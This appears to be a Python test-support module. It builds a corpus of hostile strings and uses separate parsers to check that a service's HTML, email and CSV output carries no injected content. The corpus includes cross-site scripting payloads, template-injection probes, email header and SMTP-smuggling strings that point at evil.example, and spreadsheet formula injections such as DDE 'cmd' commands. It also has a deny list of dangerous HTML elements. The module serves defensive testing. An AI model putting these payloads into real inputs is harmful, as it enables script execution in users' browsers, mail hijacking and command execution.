"""Hostile strings, and readers of what the service writes that share no code with it.

``HTML`` is read by the standard library's parser, emails by its parser of 1999, CSV by ``csv``.
"""

import random
from collections.abc import Iterator
from email import message_from_bytes, policy
from email.utils import getaddresses
from html.parser import HTMLParser

#: No word of ours, so that whatever it turns up in was made by a hostile string.
MARK = "zqxjk"
SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>",
    f"\"'><svg/onload={MARK}()>",
    f"' autofocus onfocus={MARK}() x='",
    f"</title></textarea></select></style><script>{MARK}()</script>",
    f"<!--><script>{MARK}()</script>-->",
    f"javascript:{MARK}()",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<a href=javascript:{MARK}()>{MARK}</a>",
    f"<form action=https://evil.example><button>{MARK}</button></form>",
    f"<base href=https://evil.example/{MARK}>",
    f"<meta http-equiv=refresh content='0;url=https://evil.example/{MARK}'>",
    f"<math><mtext><style><img src onerror={MARK}()></style></mtext></math>",
    f"{{{{ 7 * 7 }}}}{{% print {MARK} %}}",
    f"%(mark)s {{mark}} ${{{MARK}}} {MARK}",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"<{MARK} contenteditable onblur={MARK}()>",
)
HEADERS = (
    f"x\r\nBcc: {MARK}@evil.example",
    f"x\nBcc: {MARK}@evil.example",
    f"x\rX-{MARK}: y",
    f"x\x0bBcc: {MARK}@evil.example",
    f"x\x0cBcc: {MARK}@evil.example",
    f"x\x1cBcc: {MARK}@evil.example",
    f"x\x85Bcc: {MARK}@evil.example",
    f"x\u2028Bcc: {MARK}@evil.example",
    f"=?utf-8?q?x=0D=0ABcc=3A_{MARK}=40evil.example?=",
    f"x\r\n\r\n<script>{MARK}()</script>",
    f"Smith, John <{MARK}@evil.example>, ",
    f"x\r\n.\r\nMAIL FROM:<{MARK}@evil.example>\r\n",
    f'"{MARK}" <{MARK}@evil.example>',
)
FORMULAS = (
    f"=cmd|' /C {MARK}'!A0",
    f"+{MARK}",
    f"-2+3+cmd|' /C {MARK}'!A0",
    f"@SUM({MARK})",
    f"\t={MARK}",
    f"\r={MARK}",
    f'"=HYPERLINK(""https://evil.example/{MARK}"")',
)
EVERY = (*SCRIPTS, *HEADERS, *FORMULAS)
#: Elements that no email and no page of ours has, or that only run what they carry.
NEVER = frozenset({"iframe", "object", "embed", "base", "math", "frame", "applet", MARK})


def strings(count: int, seed: int = 1) -> Iterator[str]:
    """Yield hostile strings: each as it stands, then broken up and put together anew."""
    yield from EVERY[:count]
    chance = random.Random(seed)
    for _ in range(count - len(EVERY)):
        first, second = chance.sample(EVERY, 2)
        cut = chance.randrange(len(first))
        noise = "".join(chr(chance.choice((0, 9, 10, 13, 34, 39, 60, 62, 8232, 65279))))
        yield first[:cut] + noise * chance.randrange(3) + second + first[cut:]


class Read(HTMLParser):
    """HTML as a reader of its own takes it: the elements and attributes that may harm."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.harmful: list[str] = []
        self.words: list[str] = []
        self._within = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._within = tag
        given = {name: value or "" for name, value in attrs}
        if tag in NEVER or (tag == "script" and "nonce" not in given):
            self.harmful.append(f"<{tag}>")
        for name, value in given.items():
            leads_out = name in {"href", "src", "action"} and value.strip().lower().startswith(
                ("javascript:", "vbscript:", "data:text", "https://evil.example")
            )
            if name.startswith("on") or MARK in name or leads_out or name == "srcdoc":
                self.harmful.append(f"<{tag} {name}>")

    def handle_data(self, data: str) -> None:
        if self._within == "script" and MARK in data:
            self.harmful.append("a script's words")
        self.words.append(data)


def harm_in_html(html: str) -> list[str]:
    """Return what a reader of HTML would run, load or be led away by."""
    return Read(html).harmful


def harm_in_email(raw: bytes, allowed: frozenset[str], to: str) -> list[str]:
    """Return the headers that nobody meant, addressees that nobody named, and harm in its HTML."""
    read = message_from_bytes(raw, policy=policy.compat32)
    headers = [name for name in read if name not in allowed]
    others = [at for _name, at in getaddresses([str(read["To"])]) if at != to]
    parts = [part for part in read.walk() if part.get_content_type() == "text/html"]
    html = (part.get_payload(decode=True).decode("utf-8") for part in parts)
    return headers + others + [harm for each in html for harm in harm_in_html(each)]
